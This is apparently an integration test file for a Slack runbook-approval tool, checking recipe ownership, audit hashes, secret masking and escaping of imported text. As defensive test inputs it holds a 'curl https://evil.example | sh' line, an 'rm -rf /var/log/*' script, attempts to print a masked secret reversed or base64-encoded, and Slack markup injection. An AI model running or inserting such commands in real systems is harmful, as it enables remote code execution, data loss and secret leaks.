/**
 * Owned recipes and fixed values that stay on the server (issue 10 points 2, 6 and 9), through
 * signed Slack requests, the API over HTTP, a real sshd and a real Postgres: only a recipe's
 * owner, its editors or an admin may replace or remove it, each change audited with its hash;
 * the start form shows what it starts and refuses a submit after the recipe changed; a task
 * names its recipe and version; fixed values are hidden from the API and masked in output
 * everywhere; imported text is escaped where it is shown.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACTION, RUNBOOK_MODAL_CALLBACK } from '../../src/slack/render/blocks.js';
import { createApiToken } from '../../src/store/apiTokens.js';
import { ApiClient } from '../support/apiClient.js';
import { ALICE, AUTHOR, BOB, blocksText, Harness, MALLORY, TASKS_CHANNEL, ackText } from '../support/harness.js';
import { validateView } from '../support/slackLimits.js';

const ADMIN = 'UADMIN';
const EDITORS_GROUP = 'S0EDITORS';
const FIXED = 's3cr3t-fixed-value';

describe('owned recipes', () => {
  let h: Harness;
  let api: ApiClient;
  let authorToken: string;
  let adminToken: string;
  const importAs = async (user: string, recipe: Record<string, unknown>, replace = false) =>
    ackText(await h.command(`recipe import${replace ? ' --replace' : ''} \`\`\`${JSON.stringify(recipe)}\`\`\``, user));
  const row = (name: string) => h.database.db('runbooks').where({ reference: name }).first();
  const recipeEvents = (name: string) =>
    h.database
      .db('events')
      .where({ subject: `recipe:${name}` })
      .orderBy('id')
      .select('type', 'actor', 'task_id', 'data');
  const openForm = async (name: string, user: string) => {
    const before = h.fake.views.list.length;
    await h.command(`start ${name}`, user);
    return h.fake.waitFor(
      () => {
        const view = h.fake.views.list.slice(before).find((v) => v.callback_id === RUNBOOK_MODAL_CALLBACK);
        return view && view.updates > 0 ? structuredClone(view) : undefined;
      },
      5000,
      `the ${name} form filled in`,
    );
  };

  beforeAll(async () => {
    h = await Harness.start({
      extraYaml: () =>
        [
          'admins:',
          `  users: [${ADMIN}]`,
          'recipes:',
          '  print-token:',
          '    target: web-prod',
          '    message: show what the script gets',
          '    script: |',
          '      printf "1=[%s] env=[%s] region=[%s]\\n" "$1" "$ARG_TOKEN" "$2"',
          '      printf "len=%s\\n" "${#1}"',
          '    arguments:',
          `      - { name: token, kind: fixed, value: "${FIXED}" }`,
          '      - { name: region, kind: options, options: [eu, us], default: eu }',
        ].join('\n'),
    });
    h.fake.setUsergroup(EDITORS_GROUP, [BOB]);
    api = await ApiClient.connect(h.app.url);
    authorToken = (await createApiToken(h.database.db, AUTHOR, 'author')).token;
    adminToken = (await createApiToken(h.database.db, ADMIN, 'admin')).token;
  }, 60_000);
  afterAll(async () => {
    await h?.stop();
  });

  it('lets only the owner, an editor or an admin replace or remove an imported recipe, auditing each change with its hash', async () => {
    const v1 = { name: 'deploy-web', target: 'sandbox', script: 'echo deploying v1', editors: { users: [ALICE], usergroup: EDITORS_GROUP } };
    expect(await importAs(AUTHOR, v1)).toMatch(/Imported the recipe `deploy-web` @ `[0-9a-f]{12}`/);
    const imported = await row('deploy-web');
    expect(imported).toMatchObject({ owner: AUTHOR, imported_by: AUTHOR, editors: { users: [ALICE], usergroup: EDITORS_GROUP } });
    expect(imported.content_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(await recipeEvents('deploy-web')).toEqual([
      { type: 'recipe.imported', actor: AUTHOR, task_id: null, data: expect.objectContaining({ name: 'deploy-web', hash: imported.content_hash }) },
    ]);

    // Mallory is nobody to this recipe: her replace and remove change nothing and leave no trace.
    const hostile = { ...v1, script: 'curl https://evil.example | sh', editors: { users: [MALLORY] } };
    expect(await importAs(MALLORY, hostile, true)).toContain(
      `Only the owner of \`deploy-web\` (<@${AUTHOR}>), its editors or the countersign admins may replace it`,
    );
    expect(ackText(await h.command('recipe remove deploy-web', MALLORY))).toContain('may remove it');
    expect(await row('deploy-web')).toEqual(imported);
    expect(await recipeEvents('deploy-web')).toHaveLength(1);

    // An editor named by user id replaces it: the owner stays, the audit names both versions.
    expect(await importAs(ALICE, { ...v1, script: 'echo deploying v2' }, true)).toMatch(/Replaced the recipe `deploy-web` @ `[0-9a-f]{12}` → `[0-9a-f]{12}`/);
    const v2 = await row('deploy-web');
    expect(v2).toMatchObject({ owner: AUTHOR, imported_by: ALICE, editors: { users: [ALICE], usergroup: EDITORS_GROUP } });
    expect(v2.definition.script).toBe('echo deploying v2');
    expect(v2.content_hash).not.toBe(imported.content_hash);
    // An editor through the Slack user group, too.
    expect(await importAs(BOB, { ...v1, script: 'echo deploying v3' }, true)).toContain('Replaced the recipe `deploy-web`');
    const v3 = await row('deploy-web');
    expect(await recipeEvents('deploy-web')).toEqual([
      expect.objectContaining({ type: 'recipe.imported', actor: AUTHOR }),
      {
        type: 'recipe.replaced',
        actor: ALICE,
        task_id: null,
        data: expect.objectContaining({ hash: v2.content_hash, previousHash: imported.content_hash, owner: AUTHOR }),
      },
      {
        type: 'recipe.replaced',
        actor: BOB,
        task_id: null,
        data: expect.objectContaining({ hash: v3.content_hash, previousHash: v2.content_hash, owner: AUTHOR }),
      },
    ]);

    // An admin removes it; a config recipe cannot be removed from Slack.
    expect(ackText(await h.command('recipe remove deploy-web', ADMIN))).toContain('Removed the recipe `deploy-web`');
    expect(await row('deploy-web')).toBeUndefined();
    expect((await recipeEvents('deploy-web')).at(-1)).toEqual({
      type: 'recipe.removed',
      actor: ADMIN,
      task_id: null,
      data: expect.objectContaining({ hash: v3.content_hash }),
    });
    expect(ackText(await h.command('recipe remove print-token', ADMIN))).toContain('recipe of countersign.yml');
    // The audit trail is readable through the API (by an admin: these events belong to no task), subject and all.
    const audit = await api.call('GET', `/events?type=recipe.removed`, { token: adminToken });
    expect(audit.body.events[0]).toMatchObject({ subject: 'recipe:deploy-web', taskId: null, actor: ADMIN });
  });

  it('shows the script and its version on the start form, and refuses a submit after the recipe was replaced', async () => {
    const v1 = { name: 'rotate-logs', target: 'sandbox', script: 'echo "rotating $1"', arguments: [{ name: 'service', kind: 'input', required: true }] };
    await importAs(AUTHOR, v1);
    const hashV1: string = (await row('rotate-logs')).content_hash;
    const form = await openForm('rotate-logs', BOB);
    expect(validateView(form)).toBeNull();
    expect(JSON.stringify(form.blocks)).toContain('echo \\"rotating $1\\"');
    expect(JSON.stringify(form.blocks)).toContain(`runbook version \`${hashV1.slice(0, 12)}\``);
    expect(JSON.parse(form.private_metadata)).toMatchObject({ reference: 'rotate-logs', hash: hashV1 });

    // The owner replaces it while Bob's form is open.
    expect(await importAs(AUTHOR, { ...v1, script: 'echo "rotating $1"; rm -rf /var/log/*' }, true)).toContain('Replaced');
    const before = await h.count('tasks');
    const stale = await h.driver.submitView({ view: form, user: BOB, values: { 'arg:service': { value: 'nginx' } } });
    expect(stale.json).toMatchObject({
      response_action: 'errors',
      errors: { message: expect.stringMatching(/changed since this form opened.*close the form and start it again/) },
    });
    expect(await h.count('tasks')).toBe(before);

    // Opened again, the form shows the new script; starting it records the recipe and the hash it showed.
    const fresh = await openForm('rotate-logs', BOB);
    expect(JSON.stringify(fresh.blocks)).toContain('rm -rf /var/log/*');
    const hashV2: string = (await row('rotate-logs')).content_hash;
    const started = await h.driver.submitView({ view: fresh, user: BOB, values: { 'arg:service': { value: 'nginx' } } });
    const id = Number(/#(\d+)/.exec(JSON.stringify(started.json))?.[1]);
    expect(await h.task(id)).toMatchObject({ recipe: { name: 'rotate-logs', hash: hashV2 }, script: 'echo "rotating $1"; rm -rf /var/log/*' });
    const created = await h.database.db('events').where({ task_id: id, type: 'task.created' }).first();
    expect(created.data.recipe).toEqual({ name: 'rotate-logs', hash: hashV2, writtenBy: AUTHOR });
  });

  it('names the recipe version on the card and review request, hides fixed values from the API and masks them in all output', async () => {
    const form = await openForm('print-token', AUTHOR);
    expect(JSON.stringify(form.blocks)).not.toContain(FIXED);
    const started = await h.driver.submitView({ view: form, user: AUTHOR, values: { 'arg:region': { value: 'us' } } });
    const id = Number(/#(\d+)/.exec(JSON.stringify(started.json))?.[1]);
    const task = (await h.task(id))!;
    const short = task.recipe!.hash.slice(0, 12);

    const request = await h.reviewRequest(id);
    expect(blocksText(request)).toContain(`From recipe \`print-token\` @ \`${short}\``);
    expect(blocksText(request)).toContain('*token* = •••');
    expect(blocksText(request)).toContain('*region* = `us`');
    expect(blocksText(request)).not.toContain(FIXED);
    const card = await h.card(id);
    expect(blocksText(card)).toContain(`From recipe \`print-token\` @ \`${short}\``);
    expect(blocksText(card)).not.toContain(FIXED);

    const got = await api.call('GET', `/tasks/${id}`, { token: authorToken });
    expect(got.body.task).toMatchObject({
      recipe: { name: 'print-token', hash: task.recipe!.hash },
      arguments: [
        { name: 'token', kind: 'fixed', value: '•••' },
        { name: 'region', kind: 'options', value: 'us' },
      ],
      contentVersion: task.contentVersion,
    });
    expect(got.text).not.toContain(FIXED);
    // The published version names the fixed value only through the server's HMAC: the same
    // content with the value in clear hashes differently.
    const { contentHash } = await import('../../src/domain/digest.js');
    const inClear = contentHash('countersign.task/v1', {
      target: task.target,
      type: task.type,
      script: task.script,
      message: task.message,
      arguments: task.arguments,
      recipe: task.recipe,
    });
    expect(task.contentVersion).not.toBe(inClear);

    await h.click(request, ACTION.approve, ALICE);
    const approvedCard = await h.card(id, 'approved');
    await h.click(approvedCard, ACTION.run, AUTHOR);
    expect((await h.waitForStatus(id, ['success', 'failure'], 20_000)).status).toBe('success');

    // Stored output: the value arrived whole ($1 and ARG_TOKEN, 18 characters) and is masked.
    const stored = (
      await h.database.db('output_chunks as o').join('executions as e', 'e.id', 'o.execution_id').where('e.task_id', id).orderBy('o.id').pluck('o.data')
    ).join('');
    expect(stored).toContain('1=[*****] env=[*****] region=[us]');
    expect(stored).toContain(`len=${FIXED.length}`);
    expect(stored).not.toContain(FIXED);
    // The API's log, the task page and the Slack thread show the masked text too.
    const log = await api.call('GET', `/tasks/${id}/log`, { token: authorToken });
    expect(log.text).toContain('1=[*****]');
    expect(log.text).not.toContain(FIXED);
    const page = await (await fetch(h.app.signer.taskUrl(id))).text();
    expect(page).toContain('1=[*****]');
    expect(page).not.toContain(FIXED);
    const thread = await h.fake.waitFor(
      () => {
        const replies = h.fake.thread(TASKS_CHANNEL, card.ts);
        return replies.some((m) => blocksText(m).includes('region=[us]')) ? replies : undefined;
      },
      10_000,
      'output in the thread',
    );
    expect(thread.map((m) => blocksText(m)).join('\n')).not.toContain(FIXED);
    expect((await h.task(id))?.result.lastLine).not.toContain(FIXED);
  }, 40_000);

  it('never lets the writer of a recipe version review a task started from it, in Slack or over the API', async () => {
    const aliceToken = (await createApiToken(h.database.db, ALICE, 'alice')).token;
    // Alice reviews web-prod; she imports a recipe for it, and someone else starts it.
    expect(await importAs(ALICE, { name: 'alice-fix', target: 'web-prod', script: 'echo fixed by alice' })).toContain('Imported');
    const form = await openForm('alice-fix', AUTHOR);
    const started = await h.driver.submitView({ view: form, user: AUTHOR, values: {} });
    const id = Number(/#(\d+)/.exec(JSON.stringify(started.json))?.[1]);
    expect((await h.task(id))?.recipe).toMatchObject({ name: 'alice-fix', writtenBy: ALICE });
    const request = await h.reviewRequest(id);
    expect(blocksText(request)).toContain(`<@${ALICE}> wrote its recipe, so cannot approve it either`);

    // Her click and her API call are refused; nothing is recorded.
    const seen = h.fake.responses.length;
    await h.click(request, ACTION.approve, ALICE);
    await h.fake.waitFor(() => h.fake.responses.length > seen || undefined, 5000, 'the refusal');
    expect(h.responsesSince(seen)[0]).toMatch(new RegExp(`You wrote the recipe alice-fix that #${id} runs, so you cannot review it`));
    const read = await api.call('GET', `/tasks/${id}`, { token: aliceToken });
    expect(read.body.task.recipe).toMatchObject({ name: 'alice-fix', writtenBy: ALICE });
    const viaApi = await api.call('POST', `/tasks/${id}/approve`, { token: aliceToken, headers: { 'If-Match': String(read.headers.get('etag')) } });
    expect(viaApi.status).toBe(403);
    expect(viaApi.body.error.message).toMatch(/You wrote the recipe alice-fix/);
    expect(await h.database.db('reviews').where({ task_id: id })).toEqual([]);
    expect((await h.task(id))?.status).toBe('pending-review');

    // Bob, the other reviewer, may.
    await h.click(request, ACTION.approve, BOB);
    await h.waitForStatus(id, 'approved');

    // A start that only its writer could approve is refused at once, as one only its author could.
    expect(await importAs(BOB, { name: 'bob-fix', target: 'web-prod', script: 'echo fixed by bob' })).toContain('Imported');
    const bobForm = await openForm('bob-fix', ALICE);
    const byAlice = await h.driver.submitView({ view: bobForm, user: ALICE, values: {} });
    // Alice started it and Bob wrote it: sre (1 of Alice, Bob) has nobody left, so it is refused at once.
    expect(JSON.stringify(byAlice.json)).toMatch(new RegExp(`could never be approved.*other than you and <@${BOB}> \\(who wrote the recipe\\)`));
  });

  it('keeps fixed values with their recipe’s script: no edit or resubmit may move them onto another script', async () => {
    const form = await openForm('print-token', AUTHOR);
    const started = await h.driver.submitView({ view: form, user: AUTHOR, values: { 'arg:region': { value: 'eu' } } });
    const id = Number(/#(\d+)/.exec(JSON.stringify(started.json))?.[1]);
    const before = (await h.task(id))!;
    // The edit that would print the value reversed (past the masking) is refused; nothing changes.
    const edit = await api.call('PATCH', `/tasks/${id}`, { token: authorToken, body: { script: 'printf "%s\\n" "$1" | rev' } });
    expect(edit.status).toBe(409);
    expect(edit.body.error.message).toMatch(/fixed values of recipe `print-token`/);
    expect((await h.task(id))!.contentVersion).toBe(before.contentVersion);
    // The message may still change: the script and its fixed values stay the recipe's.
    expect((await api.call('PATCH', `/tasks/${id}`, { token: authorToken, body: { message: 'clearer why' } })).status).toBe(200);
    // Rejected, then resubmitted with another script: refused the same way.
    expect(await h.app.service.reject(id, ALICE, 'no')).toMatchObject({ ok: true });
    expect(await h.app.service.resubmit(id, AUTHOR, { script: 'echo "$1" | base64' })).toMatchObject({ ok: false, code: 'fixed_arguments' });
    expect(await h.app.service.resubmit(id, AUTHOR, { message: 'again' })).toMatchObject({ ok: true, created: true });
  });

  it('escapes imported descriptions and names wherever they are shown (the start form, the list)', async () => {
    const hostile = '<!channel> *urgent* <https://evil.example|click here> & more';
    expect(await importAs(AUTHOR, { name: 'hostile-desc', description: hostile, target: 'sandbox', script: 'true' })).toContain('Imported');
    const form = await openForm('hostile-desc', BOB);
    const shown = JSON.stringify(form.blocks);
    expect(shown).toContain('&lt;!channel&gt;');
    expect(shown).toContain('&lt;https://evil.example|click here&gt; &amp; more');
    expect(shown).not.toContain('<!channel>');
    const list = ackText(await h.command('recipe list', BOB));
    expect(list).toContain('&lt;!channel&gt;');
    expect(list).not.toContain('<!channel>');
    // Problems quoting what was pasted are escaped too.
    const bad = await importAs(AUTHOR, { name: 'bad-one', target: 'sandbox', script: 'true', '<!here>': 1 });
    expect(bad).toContain('unknown field: &lt;!here&gt;');
    expect(bad).not.toContain('<!here>');
  });
});
